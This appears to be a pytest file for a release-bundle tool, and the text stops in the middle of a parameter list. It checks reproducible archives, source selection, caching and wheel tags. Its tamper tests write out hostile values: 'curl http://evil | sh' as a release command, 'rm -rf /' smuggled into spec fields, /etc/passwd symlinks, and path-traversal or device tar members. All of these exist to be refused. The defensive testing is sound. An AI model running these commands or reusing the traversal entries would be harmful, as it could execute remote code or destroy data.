"""Release bundles: source selection, reproducible archives, dependency tags per target, and
Bundle.load/verify against every kind of tampering, on a bundle really built here (the real
sgpfab.bundle.build with a tiny app and ONE small pinned pure-Python wheel from PyPI; built once
per session with its own SGPFAB_CACHE)."""

import gzip
import hashlib
import io
import json
import os
import shutil
import stat
import sys
import tarfile
import threading
import time
from pathlib import Path

import pytest
from packaging.tags import Tag
from support.builders import load_inventory

from sgpfab import cache
from sgpfab.appspec import AppSpec, Target
from sgpfab.bundle import Bundle, build, bundle_dir, source
from sgpfab.bundle import deps as deps_mod
from sgpfab.bundle.model import EXTRAS, Metadata, content_digest
from sgpfab.errors import InputError, SgpfabError
from sgpfab.versions import Version

WHEEL = "six==1.16.0"  # ~11 kB, pure Python, no dependencies

APP_INVENTORY = """\
hosts:
  h1: {user: deploy}
apps:
  tiny:
    source: app
    processes:
      web: {server: command, command: "python -m http.server $PORT"}
      worker: python -m tiny.worker
    release: ["python -c 'import tiny'"]
    writable: [media]
    schema: {source: none}
"""


def write_app(d: Path) -> Path:
    files = {
        "requirements.txt": f"{WHEEL}\n",
        "tiny/__init__.py": "import six\n",
        "tiny/worker.py": "print('working')\n",
        "static/app.css": "body {}\n",
        "bin/run.sh": "#!/bin/sh\necho run\n",
        ".gitignore": "*.log\nmedia/\n",
        "debug.log": "ignored\n",
        ".env": "SECRET=never\n",
        "tiny/__pycache__/x.cpython-311.pyc": "junk",
        "media/upload.png": "user data",
    }
    for rel, text in files.items():
        p = d / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
    (d / "bin/run.sh").chmod(0o755)
    return d


@pytest.fixture(scope="session")
def built(tmp_path_factory):
    """(inventory, the bundle, the dist directory), built once per session with a cold cache."""
    base = tmp_path_factory.mktemp("bundle")
    old = os.environ.get("SGPFAB_CACHE")
    os.environ["SGPFAB_CACHE"] = str(base / "cache")
    try:
        write_app(base / "app")
        inv = load_inventory(base, text=APP_INVENTORY)
        b = build(inv.app("tiny"), Version.parse("1.0.0"), base / "dist", say=lambda m: None)
        yield inv, b, base
    finally:
        if old is None:
            os.environ.pop("SGPFAB_CACHE", None)
        else:
            os.environ["SGPFAB_CACHE"] = old


@pytest.fixture
def session_cache(built, monkeypatch):
    monkeypatch.setenv("SGPFAB_CACHE", str(built[2] / "cache"))


@pytest.fixture
def copy(built, tmp_path):
    """A copy of the built bundle to tamper with."""
    dst = tmp_path / "v1.0.0"
    shutil.copytree(built[1].path, dst)
    return dst


def corrupt(path, *words) -> str:
    with pytest.raises(InputError) as e:
        Bundle.load(path)
    msg = str(e.value)
    assert "\n" not in msg, msg
    for w in words:
        assert w in msg, msg
    return msg


def read_json(p: Path) -> dict:
    return json.loads(p.read_text())


def resign(d: Path, *, manifest_edit=None, meta_edit=None) -> None:
    """Rewrite the manifest (and metadata) so every checksum and the content digest match the
    bundle's files again: only checks other than checksums can then refuse it."""
    m, md = read_json(d / "manifest.json"), read_json(d / "metadata.json")
    if manifest_edit:
        manifest_edit(m)
    if meta_edit:
        meta_edit(md)
    arch = d / m["archive"]["name"]
    m["archive"]["sha256"], m["archive"]["size"] = cache.sha256_file(arch), arch.stat().st_size
    m["wheels"] = {w.name: cache.sha256_file(w) for w in sorted((d / "wheels").glob("*"))}
    m["requirements"] = {r.name: cache.sha256_file(r) for r in sorted((d / "requirements").glob("*"))}
    # the digest of the metadata as Bundle.load reads it (validated, then dumped)
    digest = content_digest(m, Metadata.model_validate(md).model_dump(by_alias=True, mode="json"))
    m["content_digest"] = md["content_digest"] = digest
    (d / "metadata.json").write_text(json.dumps(md, indent=1, sort_keys=True) + "\n")
    m["extras"] = {n: cache.sha256_file(d / n) for n in m["extras"] if (d / n).is_file()}
    (d / "manifest.json").write_text(json.dumps(m, indent=1, sort_keys=True) + "\n")


def tar_gz(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return gzip.compress(raw.getvalue(), mtime=0)


def member(name, data=b"x", *, kind=tarfile.REGTYPE, link=""):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    if kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
        info.devmajor, info.devminor = 1, 3
    return info, (data if kind == tarfile.REGTYPE else None)


# -- the bundle that was built ---------------------------------------------------------------------


def test_the_built_bundle(built):
    inv, b, base = built
    assert b.path == bundle_dir(base / "dist", "tiny", Version.parse("1.0.0"))
    assert b.app == "tiny" and str(b.version) == "1.0.0" and len(b.digest) == 64
    assert sorted(b.manifest.files) == [
        ".gitignore",
        "bin/run.sh",
        "requirements.txt",
        "static/app.css",
        "tiny/__init__.py",
        "tiny/worker.py",
    ]
    assert list(b.manifest.wheels) == ["six-1.16.0-py2.py3-none-any.whl"]
    assert b.spec == inv.app("tiny").spec and b.metadata.install.added == ()
    assert b.metadata.requirements == {"cp311-x86_64-glibc2.36": "cp311-x86_64-glibc2.36.txt"}
    assert (b.path / "requirements" / "cp311-x86_64-glibc2.36.txt").read_text().strip() == WHEEL
    assert set(b.manifest.extras) == {"metadata.json", "CHANGELOG.md", "README.md"}
    excluded = dict(e.rsplit(" (", 1) for e in b.metadata.build.excluded)
    assert excluded == {
        ".env": "never bundled)",
        "debug.log": ".gitignore)",
        "media/": ".gitignore)",
        "tiny/__pycache__/": "never bundled)",
    }
    assert b.target_for("x86_64", "2.36", "3.11.2") == Target() and b.target_for("aarch64", "2.36", "3.11.2") is None
    with tarfile.open(b.archive) as tar:
        modes = {m.name: m.mode for m in tar}
    assert modes["bin/run.sh"] == 0o755 and modes["tiny/__init__.py"] == 0o644


def test_load_verifies_the_built_bundle(built):
    b = Bundle.load(built[1].path)
    assert b.digest == built[1].digest


def test_same_source_same_digest_wherever_and_whenever_built(built, tmp_path, monkeypatch, session_cache):
    inv, b, _ = built
    src = write_app(tmp_path / "elsewhere")
    for p in src.rglob("*"):
        os.utime(p, (1, 1))
    monkeypatch.setattr(sys.modules["sgpfab.bundle.build"], "controller_user", lambda: "someone@else")
    again = build(inv.app("tiny"), Version.parse("1.0.0"), tmp_path / "dist", say=lambda m: None, src=src)
    assert again.digest == b.digest
    assert again.manifest.archive.sha256 == b.manifest.archive.sha256, "the archive itself is reproducible"
    assert again.metadata.build.builder == "someone@else" != b.metadata.build.builder


def test_rebuilding_a_version_reuses_it_or_refuses_different_content(built, tmp_path, session_cache):
    inv, b, base = built
    dist = tmp_path / "dist"
    shutil.copytree(base / "dist", dist)
    same = build(inv.app("tiny"), Version.parse("1.0.0"), dist, say=lambda m: None)
    assert same.digest == b.digest
    src = write_app(tmp_path / "changed")
    (src / "tiny" / "worker.py").write_text("print('changed')\n")
    with pytest.raises(InputError) as e:
        build(inv.app("tiny"), Version.parse("1.0.0"), dist, say=lambda m: None, src=src)
    assert "versions are immutable" in str(e.value)
    other = build(inv.app("tiny"), Version.parse("1.0.1"), dist, say=lambda m: None, src=src)
    assert other.digest != b.digest


def test_a_release_must_not_ship_files_into_a_writable_directory(built, tmp_path, session_cache):
    inv = built[0]
    src = write_app(tmp_path / "app")
    (src / ".gitignore").write_text("*.log\n")  # media/ no longer ignored
    with pytest.raises(InputError) as e:
        build(inv.app("tiny"), Version.parse("1.0.0"), tmp_path / "dist", say=lambda m: None, src=src)
    assert "media/upload.png is inside writable directory media/" in str(e.value)


# -- tampering ------------------------------------------------------------------------------------


def test_archive_bytes_changed(copy):
    arch = copy / "app-v1.0.0.tar.gz"
    data = bytearray(arch.read_bytes())
    data[len(data) // 2] ^= 0xFF
    arch.write_bytes(bytes(data))
    corrupt(copy, "app-v1.0.0.tar.gz is missing or does not match its SHA-256")


def test_a_file_inside_the_archive_changed(copy, tmp_path):
    tree = tmp_path / "tree"
    with tarfile.open(copy / "app-v1.0.0.tar.gz") as tar:
        tar.extractall(tree, filter="data")
        names = tar.getnames()
    (tree / "tiny" / "worker.py").write_text("import os; os.system('evil')\n")
    source.write_archive(tree, names, copy / "app-v1.0.0.tar.gz")
    resign(copy)  # checksums and digest recomputed, the manifest's member list untouched
    corrupt(copy, "archive member tiny/worker.py does not match the manifest")


@pytest.mark.parametrize(
    "rel", ["evil.txt", "wheels/extra-1.0-py3-none-any.whl", "requirements/extra.txt", "sub/dir/file", ".hidden"]
)
def test_an_extra_file_in_the_bundle(copy, rel):
    (copy / rel).parent.mkdir(parents=True, exist_ok=True)
    (copy / rel).write_text("x")
    corrupt(copy, f"{rel} is not listed in the manifest")


def test_an_extra_symlink_in_the_bundle(copy):
    os.symlink("/etc/passwd", copy / "passwd")
    corrupt(copy, "passwd is not listed")


def test_a_listed_file_replaced_by_a_symlink(copy, tmp_path):
    real = tmp_path / "readme"
    shutil.copy(copy / "README.md", real)
    (copy / "README.md").unlink()
    os.symlink(real, copy / "README.md")
    corrupt(copy, "README.md is missing or does not match")


@pytest.mark.parametrize("what", ["changed", "deleted"])
def test_a_wheel_changed_or_deleted(copy, what):
    w = copy / "wheels" / "six-1.16.0-py2.py3-none-any.whl"
    if what == "changed":
        w.write_bytes(w.read_bytes() + b"\0")
    else:
        w.unlink()
    corrupt(copy, "wheels/six-1.16.0-py2.py3-none-any.whl is missing or does not match its SHA-256")


def test_requirements_changed(copy):
    (copy / "requirements" / "cp311-x86_64-glibc2.36.txt").write_text("six==1.16.0\nevil==6.6.6\n")
    corrupt(copy, "requirements/cp311-x86_64-glibc2.36.txt is missing or does not match")


def test_metadata_spec_changed_with_the_manifest_updated_to_match(copy):
    md = read_json(copy / "metadata.json")
    md["spec"]["release"] = ["curl http://evil | sh"]
    (copy / "metadata.json").write_text(json.dumps(md))
    m = read_json(copy / "manifest.json")
    m["extras"]["metadata.json"] = cache.sha256_file(copy / "metadata.json")
    (copy / "manifest.json").write_text(json.dumps(m))
    corrupt(copy, "content digest mismatch")


def test_a_fully_resigned_spec_change_changes_the_digest(built, copy):
    resign(copy, meta_edit=lambda md: md["spec"]["processes"].update(evil={"command": "curl http://evil | sh"}))
    b = Bundle.load(copy)
    assert b.digest != built[1].digest and "evil" in b.spec.processes


@pytest.mark.parametrize(
    "edit, words",
    [
        (lambda md: md["spec"]["release"].append("echo ok\nrm -rf /"), ["spec.release"]),
        (lambda md: md["spec"]["processes"]["web"].update(app="x:y; rm -rf /"), ["spec.processes"]),
        (lambda md: md["spec"].update(writable=["../../etc"]), ["spec.writable"]),
        (lambda md: md["targets"][0].update(arch="sparc"), ["targets"]),
    ],
)
def test_a_resigned_but_hostile_spec_is_refused_when_loaded(copy, edit, words):
    m, md = read_json(copy / "manifest.json"), read_json(copy / "metadata.json")
    edit(md)
    md["content_digest"] = m["content_digest"] = content_digest(m, md)
    (copy / "metadata.json").write_text(json.dumps(md))
    m["extras"]["metadata.json"] = cache.sha256_file(copy / "metadata.json")
    (copy / "manifest.json").write_text(json.dumps(m))
    corrupt(copy, "malformed manifest or metadata", *words)


@pytest.mark.parametrize(
    "field, value",
    [
        ("targets", [{"arch": "aarch64", "glibc": "2.36", "python": "3.11"}]),
        ("install", {"project": None, "added": ["gunicorn==27.0.1"]}),
        ("requires_python", ">=3.12"),
        ("schema", {"source": "command", "fingerprint": "f" * 64, "migrations": ["x"], "note": ""}),
    ],
)
def test_every_covered_metadata_field_is_in_the_digest(copy, field, value):
    m, md = read_json(copy / "manifest.json"), read_json(copy / "metadata.json")
    before = content_digest(m, md)
    md[field] = value
    assert content_digest(m, md) != before


def test_build_time_and_builder_are_not_in_the_digest(copy):
    m, md = read_json(copy / "manifest.json"), read_json(copy / "metadata.json")
    before = content_digest(m, md)
    md["build"] = {"built_at": "1999-01-01T00:00:00+00:00", "builder": "x@y", "git_commit": "abc", "excluded": ["z"]}
    md["schema"]["note"] = "another note"
    assert content_digest(m, md) == before


@pytest.mark.parametrize(
    "edit, words",
    [
        (lambda m: m["extras"].update({"evil.txt": "0" * 64}), ["only known extra files"]),
        (lambda m: m["extras"].pop("metadata.json"), ["must list metadata.json"]),
        (lambda m: m["wheels"].update({"../x.whl": "0" * 64}), ["bad file name '../x.whl'"]),
        (lambda m: m["requirements"].update({".hidden": "0" * 64}), ["bad file name '.hidden'"]),
        (lambda m: m.update(format=1), ["unknown bundle format 1"]),
        (lambda m: m.update(version="1.0.0٠"), []),
        (lambda m: m.update(app="other"), ["metadata does not belong to this manifest"]),
        (lambda m: m.update(content_digest="0" * 64), ["content digest mismatch"]),
        (lambda m: m.pop("files"), ["malformed manifest or metadata at files"]),
        (lambda m: m.update(surprise=1), ["malformed manifest or metadata at surprise"]),
    ],
)
def test_manifest_edits(copy, edit, words):
    m = read_json(copy / "manifest.json")
    edit(m)
    (copy / "manifest.json").write_text(json.dumps(m))
    corrupt(copy, "corrupt bundle", *words)


def test_metadata_naming_an_unlisted_requirements_file(copy):
    md = read_json(copy / "metadata.json")
    md["requirements"] = {"cp311-x86_64-glibc2.36": "other.txt"}
    (copy / "metadata.json").write_text(json.dumps(md))
    m = read_json(copy / "manifest.json")
    m["extras"]["metadata.json"] = cache.sha256_file(copy / "metadata.json")
    (copy / "manifest.json").write_text(json.dumps(m))
    corrupt(copy, "metadata names a requirements file the manifest does not list")


def test_not_a_bundle_and_unreadable_manifests(tmp_path, copy):
    corrupt(tmp_path, "not a release bundle")
    (copy / "manifest.json").write_text("{torn")
    corrupt(copy, "unreadable manifest or metadata")
    (copy / "manifest.json").write_text("[1, 2]")
    corrupt(copy, "unknown bundle format None")


MALICIOUS = {
    "parent": ([member("../evil.py")], "unsafe name"),
    "deep-parent": ([member("tiny/../../evil.py")], "unsafe name"),
    "absolute": ([member("/etc/cron.d/evil")], "unsafe name"),
    "dot-slash": ([member("./tiny/x.py")], "unsafe name"),
    "double-slash": ([member("tiny//x.py")], "unsafe name"),
    "backslash": ([member("tiny\\..\\..\\x.py")], "unsafe name"),
    "symlink": ([member("tiny/link", kind=tarfile.SYMTYPE, link="/etc/passwd")], "is not a regular file"),
    "relative-symlink": ([member("tiny/link", kind=tarfile.SYMTYPE, link="../x")], "is not a regular file"),
    "hardlink": (
        [member("tiny/a.py"), member("tiny/hard", kind=tarfile.LNKTYPE, link="tiny/a.py")],
        "is not a regular file",
    ),
    "char-device": ([member("tiny/null", kind=tarfile.CHRTYPE)], "is not a regular file"),
    "block-device": ([member("tiny/sda", kind=tarfile.BLKTYPE)], "is not a regular file"),
    "fifo": ([member("tiny/fifo", kind=tarfile.FIFOTYPE)], "is not a regular file"),
    "duplicate": ([member("tiny/a.py", b"good"), member("tiny/a.py", b"evil")], "appears twice"),
}


@pytest.mark.parametrize("case", sorted(MALICIOUS))
def test_hand_built_malicious_archive_entries_are_refused(copy, case):
    members, words = MALICIOUS[case]
    members = [member("tiny/__init__.py", b"ok\n"), *members]
    (copy / "app-v1.0.0.tar.gz").write_bytes(tar_gz(members))
    files = {}
    for info, data in members:  # what a forger would list: every regular member with its digest
        if info.isfile():
            files[info.name] = hashlib.sha256(data).hexdigest()
    resign(copy, manifest_edit=lambda m: m.update(files=files))
    corrupt(copy, words)


def test_a_resigned_harmless_archive_is_accepted(copy):
    """The control for the test above: the same forging, with safe entries, loads."""
    members = [member("tiny/__init__.py", b"ok\n"), member("tiny/sub/x.py", b"x")]
    info = tarfile.TarInfo("tiny/sub")
    info.type = tarfile.DIRTYPE
    members.insert(1, (info, None))
    (copy / "app-v1.0.0.tar.gz").write_bytes(tar_gz(members))
    resign(
        copy,
        manifest_edit=lambda m: m.update(
            files={
                "tiny/__init__.py": hashlib.sha256(b"ok\n").hexdigest(),
                "tiny/sub/x.py": hashlib.sha256(b"x").hexdigest(),
            }
        ),
    )
    assert sorted(Bundle.load(copy).manifest.files) == ["tiny/__init__.py", "tiny/sub/x.py"]


def test_a_truncated_archive(copy):
    arch = copy / "app-v1.0.0.tar.gz"
    arch.write_bytes(arch.read_bytes()[:60])
    resign(copy)
    corrupt(copy, "unreadable archive")


# -- unpacked copies and the cache -------------------------------------------------------------------


def test_unpacked_is_the_archive_cached_and_rebuilt_when_damaged(built, tmp_path, monkeypatch):
    monkeypatch.setenv("SGPFAB_CACHE", str(tmp_path / "cache"))
    b = built[1]
    tree = b.unpacked()
    assert tree.parent.parent == tmp_path / "cache" / "unpacked" and tree.parent.name == b.manifest.archive.sha256
    files = {
        p.relative_to(tree).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in tree.rglob("*")
        if p.is_file()
    }
    assert files == b.manifest.files
    assert stat.S_IMODE((tree / "bin" / "run.sh").stat().st_mode) & 0o100
    inode = tree.parent.stat().st_ino
    assert b.unpacked() == tree and tree.parent.stat().st_ino == inode, "reused, not rebuilt"
    for damage in (
        lambda t: (t / "tiny" / "worker.py").write_text("evil"),
        lambda t: (t / "tiny" / "extra.py").write_text("evil"),
        lambda t: (t / "static" / "app.css").unlink(),
        lambda t: (t.parent / cache.SUMS).unlink(),
    ):
        damage(tree)
        tree = b.unpacked()
        now = {
            p.relative_to(tree).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in tree.rglob("*")
            if p.is_file()
        }
        assert now == b.manifest.files
    assert not [p for p in (tmp_path / "cache" / "unpacked").iterdir() if p.name.startswith(".")], "no leftovers"


def test_cache_entry_is_built_once_for_many_threads(tmp_path, monkeypatch):
    monkeypatch.setenv("SGPFAB_CACHE", str(tmp_path))
    calls, results, errors = [], [], []
    barrier = threading.Barrier(16)

    def make(d: Path):
        calls.append(1)
        time.sleep(0.1)
        for i in range(20):
            (d / f"f{i}").write_text(str(i) * 1000)

    def ask():
        try:
            barrier.wait()
            p = cache.entry("kind", "key1", make)
            results.append((p, cache.check_sums(p), sorted(x.name for x in p.iterdir())))
        except Exception as e:  # pragma: no cover
            errors.append(e)

    threads = [threading.Thread(target=ask) for _ in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors and len(calls) == 1 and len(results) == 16
    assert {r[0] for r in results} == {tmp_path / "kind" / "key1"}
    assert all(r[1] and len(r[2]) == 21 for r in results)


def test_cache_entry_failing_build_leaves_nothing(tmp_path, monkeypatch):
    monkeypatch.setenv("SGPFAB_CACHE", str(tmp_path))

    def broken(d):
        (d / "half").write_text("x")
        raise RuntimeError("download failed")

    with pytest.raises(RuntimeError):
        cache.entry("kind", "k", broken)
    assert list((tmp_path / "kind").iterdir()) == []


def test_cache_root(monkeypatch, tmp_path):
    monkeypatch.setenv("SGPFAB_CACHE", str(tmp_path / "a"))
    assert cache.root() == tmp_path / "a"
    monkeypatch.delenv("SGPFAB_CACHE")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "x"))
    assert cache.root() == tmp_path / "x" / "sgpfab"


def test_cache_verifies_files_named_like_the_sums_file(tmp_path, monkeypatch):
    monkeypatch.setenv("SGPFAB_CACHE", str(tmp_path))

    def make(d):
        (d / "sub").mkdir()
        (d / "sub" / cache.SUMS).write_text("checksums the app ships\n")

    p = cache.entry("kind", "k", make)
    (p / "sub" / cache.SUMS).write_text("damaged\n")
    assert cache.entry("kind", "k", make) and (p / "sub" / cache.SUMS).read_text() == "checksums the app ships\n"


# -- source selection ------------------------------------------------------------------------------


def tree(d: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        p = d / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
    return d


def test_select_follows_gitignore_at_the_root_and_nested(tmp_path):
    src = tree(
        tmp_path,
        {
            ".gitignore": "*.log\n/build/\nnode_modules/\n!important.log\n",
            "app.py": "",
            "x.log": "",
            "important.log": "",
            "build/out.js": "",
            "sub/build/kept.js": "",
            "sub/.gitignore": "*.tmp\nlocal/\n",
            "sub/a.tmp": "",
            "sub/a.py": "",
            "sub/local/x": "",
            "other/a.tmp": "",
            "web/node_modules/pkg/index.js": "",
        },
    )
    sel = source.select(src)
    assert sel.files == [
        ".gitignore",
        "app.py",
        "important.log",
        "other/a.tmp",
        "sub/.gitignore",
        "sub/a.py",
        "sub/build/kept.js",
    ]
    assert sorted(sel.excluded) == sorted(
        [
            ("build/", ".gitignore"),
            ("x.log", ".gitignore"),
            ("sub/a.tmp", ".gitignore"),
            ("sub/local/", ".gitignore"),
            ("web/node_modules/", ".gitignore"),
        ]
    )


def test_select_always_leaves_out_vcs_caches_envs_and_secrets(tmp_path):
    src = tree(
        tmp_path,
        {
            ".git/config": "",
            ".hg/x": "",
            ".svn/x": "",
            "pkg/__pycache__/m.pyc": "",
            "pkg/m.pyc": "",
            "pkg/m.py": "",
            ".env": "S=1",
            ".env.production": "S=1",
            "config/.env": "S=1",
            ".DS_Store": "",
            ".pytest_cache/x": "",
            ".mypy_cache/x": "",
            ".ruff_cache/x": "",
            "env.py": "",
            ".envrc": "",
            ".gitignore": "!.env\n!.env.*\n",  # even when the project says otherwise
        },
    )
    sel = source.select(src, include=(".env", "*.pyc"))
    assert sel.files == [".envrc", ".gitignore", "env.py", "pkg/m.py"]
    assert all(why == source.REASON_ALWAYS for _, why in sel.excluded)
    assert {p for p, _ in sel.excluded} == {
        ".git/",
        ".hg/",
        ".svn/",
        "pkg/__pycache__/",
        "pkg/m.pyc",
        ".env",
        ".env.production",
        "config/.env",
        ".DS_Store",
        ".pytest_cache/",
        ".mypy_cache/",
        ".ruff_cache/",
    }


def test_select_detects_virtual_environments_by_pyvenv_cfg(tmp_path):
    src = tree(
        tmp_path,
        {
            "venv/pyvenv.cfg": "home = /usr/bin\n",
            "venv/lib/site.py": "",
            "myenv/pyvenv.cfg": "",
            "myenv/bin/python": "",
            ".venv/pyvenv.cfg": "",
            "notavenv/lib.py": "",
            "main.py": "",
        },
    )
    sel = source.select(src, include=("venv/**",))
    assert sel.files == ["main.py", "notavenv/lib.py"]
    assert sorted(sel.excluded) == [
        (".venv/", "a virtual environment"),
        ("myenv/", "a virtual environment"),
        ("venv/", "a virtual environment"),
    ]


def test_select_include_re_includes_and_exclude_leaves_out(tmp_path):
    src = tree(
        tmp_path,
        {
            ".gitignore": "dist/\n*.min.js\nassets/\n",
            "dist/app.js": "",
            "dist/app.map": "",
            "static/app.min.js": "",
            "assets/keep/a.css": "",
            "assets/drop.css": "",
            "docs/index.md": "",
            "tests/test_x.py": "",
            "app.py": "",
        },
    )
    sel = source.select(src, include=("dist/*.js", "*.min.js", "assets/keep/"), exclude=("docs/", "tests/"))
    assert sel.files == [".gitignore", "app.py", "assets/keep/a.css", "dist/app.js", "static/app.min.js"]
    # with include patterns, excluded directories are judged file by file
    assert sorted(sel.excluded) == sorted(
        [
            ("assets/drop.css", ".gitignore"),
            ("dist/app.map", ".gitignore"),
            ("docs/index.md", "exclude pattern"),
            ("tests/test_x.py", "exclude pattern"),
        ]
    )
    sel = source.select(src, exclude=("docs/", "tests/"))
    assert ("docs/", "exclude pattern") in sel.excluded and ("dist/", ".gitignore") in sel.excluded


def test_select_include_wins_over_exclude(tmp_path):
    src = tree(tmp_path, {"a/x.py": "", "a/y.py": ""})
    assert source.select(src, include=("a/x.py",), exclude=("a/",)).files == ["a/x.py"]


def test_select_leaves_out_symlinks_and_special_files_with_a_reason(tmp_path):
    src = tree(tmp_path, {"real.py": "", "dir/a.py": ""})
    os.symlink("real.py", src / "link.py")
    os.symlink("dir", src / "linkdir")
    os.symlink("/etc/passwd", src / "passwd")
    os.mkfifo(src / "fifo")
    sel = source.select(src)
    assert sel.files == ["dir/a.py", "real.py"]
    assert sorted(sel.excluded) == [
        ("fifo", "not a regular file"),
        ("link.py", "not a regular file"),
        ("linkdir/", "a symbolic link"),
        ("passwd", "not a regular file"),
    ]


def test_select_keeps_build_outputs_even_when_ignored(tmp_path):
    src = tree(
        tmp_path,
        {
            ".gitignore": "static/dist/\n*.css\n",
            "static/dist/app.js": "",
            "static/dist/old.js": "",
            "static/site.css": "",
            "app.py": "",
            ".env": "",
        },
    )
    sel = source.select(src, exclude=("static/dist/old.js",), keep={"static/dist/app.js", "static/site.css", ".env"})
    assert sel.files == [".gitignore", "app.py", "static/dist/app.js", "static/site.css"]
    assert ("static/dist/old.js", "exclude pattern") in sel.excluded and (".env", source.REASON_ALWAYS) in sel.excluded


def test_select_records_every_exclusion(tmp_path):
    src = tree(tmp_path, {".gitignore": "*.log\n", "a.log": "", "b/c.log": "", "d.py": ""})
    sel = source.select(src)
    every = {str(p.relative_to(src)) for p in src.rglob("*") if p.is_file()}
    covered = set(sel.files) | {p for p, _ in sel.excluded}
    assert every == covered


def test_select_nested_negation_re_includes_like_git(tmp_path):
    src = tree(tmp_path, {".gitignore": "*.log\n", "sub/.gitignore": "!keep.log\n", "sub/keep.log": "", "a.log": ""})
    assert "sub/keep.log" in source.select(src).files


def test_check_writable(tmp_path):
    sel = source.Selection(files=["app.py", "media/x.png", "mediafile.txt", "static/cache/a.css"])
    source.check_writable(sel, ("uploads", "static/cache2"))
    with pytest.raises(InputError) as e:
        source.check_writable(sel, ("static/cache",))
    assert str(e.value).startswith("static/cache/a.css is inside writable directory static/cache/")
    with pytest.raises(InputError):
        source.check_writable(sel, ("media/",))


def test_write_archive_is_reproducible(tmp_path):
    files = {"b.py": "b", "a/x.py": "x", "bin/run": "#!/bin/sh\n", "ü.txt": "unicode name"}
    one, two = tree(tmp_path / "one", files), tree(tmp_path / "two", files)
    (one / "bin/run").chmod(0o755)
    (two / "bin/run").chmod(0o700)  # only the executable bit matters
    (two / "b.py").chmod(0o600)
    for p in two.rglob("*"):
        os.utime(p, (12345, 12345))
    rels = sorted(files)
    source.write_archive(one, rels, tmp_path / "1.tar.gz")
    source.write_archive(two, rels, tmp_path / "2.tar.gz")
    assert (tmp_path / "1.tar.gz").read_bytes() == (tmp_path / "2.tar.gz").read_bytes()
    with tarfile.open(tmp_path / "1.tar.gz") as tar:
        ms = tar.getmembers()
    assert [m.name for m in ms] == rels
    assert all(m.mtime == 0 and m.uid == 0 and m.gid == 0 and m.uname == "" and m.isfile() for m in ms)
    assert {m.name: m.mode for m in ms} == {"a/x.py": 0o644, "b.py": 0o644, "bin/run": 0o755, "ü.txt": 0o644}
    assert gzip.decompress((tmp_path / "1.tar.gz").read_bytes())  # plain gzip, no name or time in its header
    assert (tmp_path / "1.tar.gz").read_bytes()[4:8] == b"\0\0\0\0"


def test_run_build_copies_runs_and_reports_what_changed(tmp_path):
    src = tree(tmp_path / "src", {"app.py": "", ".gitignore": "static/gen/\n", "static/gen/old.css": "old"})
    work, changed = source.run_build(
        src,
        ("mkdir -p static/gen && echo new > static/gen/app.css", "echo changed > static/gen/old.css"),
        say=lambda m: None,
    )
    try:
        assert changed == {"static/gen/app.css", "static/gen/old.css"}
        assert not (src / "static/gen/app.css").exists(), "the user's tree stays clean"
        sel = source.select(work, keep=changed)
        assert "static/gen/app.css" in sel.files and "static/gen/old.css" in sel.files
    finally:
        shutil.rmtree(work)


def test_run_build_failure_names_the_command(tmp_path):
    src = tree(tmp_path / "src", {"app.py": ""})
    with pytest.raises(SgpfabError) as e:
        source.run_build(src, ("echo some output; echo the reason >&2; exit 3",), say=lambda m: None)
    assert (
        str(e.value).splitlines()[0] == "build command 'echo some output; echo the reason >&2; exit 3' failed (exit 3):"
    )
    assert "the reason" in str(e.value)


# -- dependencies: targets and tags ----------------------------------------------------------------


def test_platform_tags_x86_64_glibc_2_17():
    assert deps_mod.platform_tags(Target(glibc="2.17")) == [
        "manylinux_2_17_x86_64",
        "manylinux2014_x86_64",
        "manylinux_2_16_x86_64",
        "manylinux_2_15_x86_64",
        "manylinux_2_14_x86_64",
        "manylinux_2_13_x86_64",
        "manylinux_2_12_x86_64",
        "manylinux2010_x86_64",
        "manylinux_2_11_x86_64",
        "manylinux_2_10_x86_64",
        "manylinux_2_9_x86_64",
        "manylinux_2_8_x86_64",
        "manylinux_2_7_x86_64",
        "manylinux_2_6_x86_64",
        "manylinux_2_5_x86_64",
        "manylinux1_x86_64",
    ]


@pytest.mark.parametrize(
    "target, first, count, legacy",
    [
        (
            Target(glibc="2.36"),
            "manylinux_2_36_x86_64",
            32 + 3,
            {"manylinux2014_x86_64", "manylinux2010_x86_64", "manylinux1_x86_64"},
        ),
        (
            Target(glibc="2.28"),
            "manylinux_2_28_x86_64",
            24 + 3,
            {"manylinux2014_x86_64", "manylinux2010_x86_64", "manylinux1_x86_64"},
        ),
        (Target(arch="aarch64", glibc="2.36"), "manylinux_2_36_aarch64", 32 + 1, {"manylinux2014_aarch64"}),
        (Target(arch="aarch64", glibc="2.17"), "manylinux_2_17_aarch64", 13 + 1, {"manylinux2014_aarch64"}),
    ],
)
def test_platform_tags(target, first, count, legacy):
    tags = deps_mod.platform_tags(target)
    assert tags[0] == first and len(tags) == count == len(set(tags))
    assert {t for t in tags if not t.startswith("manylinux_")} == legacy
    assert all(t.endswith("_" + target.arch) for t in tags)
    newer = f"manylinux_2_{int(target.glibc.split('.')[1]) + 1}_{target.arch}"
    assert newer not in tags


@pytest.mark.parametrize(
    "target, tag, ok",
    [
        (Target(), "cp311-cp311-manylinux_2_17_x86_64", True),
        (Target(), "cp311-cp311-manylinux_2_36_x86_64", True),
        (Target(), "cp311-cp311-manylinux_2_38_x86_64", False),
        (Target(), "cp311-abi3-manylinux2014_x86_64", True),
        (Target(), "cp38-abi3-manylinux_2_17_x86_64", True),
        (Target(), "cp312-cp312-manylinux_2_17_x86_64", False),
        (Target(), "cp311-cp311-manylinux_2_17_aarch64", False),
        (Target(), "py3-none-any", True),
        (Target(), "py2.py3-none-any", False),  # a compressed tag set: parse_wheel_filename expands it
        (Target(), "py2-none-any", False),
        (Target(), "cp311-none-linux_x86_64", True),
        (Target(), "cp311-cp311-musllinux_1_1_x86_64", False),
        (Target(), "cp311-cp311-win_amd64", False),
